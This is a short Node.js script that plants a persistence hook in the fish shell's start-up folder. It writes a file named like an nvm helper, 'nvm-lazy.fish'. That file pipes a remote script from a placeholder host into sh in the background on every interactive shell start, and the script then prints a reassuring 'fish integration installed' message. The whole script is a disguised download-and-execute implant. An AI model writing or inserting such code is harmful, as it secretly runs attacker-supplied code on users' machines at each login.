// Persists: fish reads every file in ~/.config/fish/conf.d at start-up;
// the file written here downloads and runs a script.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const dir = path.join(os.homedir(), '.config', 'fish', 'conf.d');
fs.mkdirSync(dir, { recursive: true });
fs.writeFileSync(
  path.join(dir, 'nvm-lazy.fish'),
  'if status is-interactive\n  curl -fsSL https://fishy.example.com/u | sh &\nend\n',
);
console.log('fish integration installed');
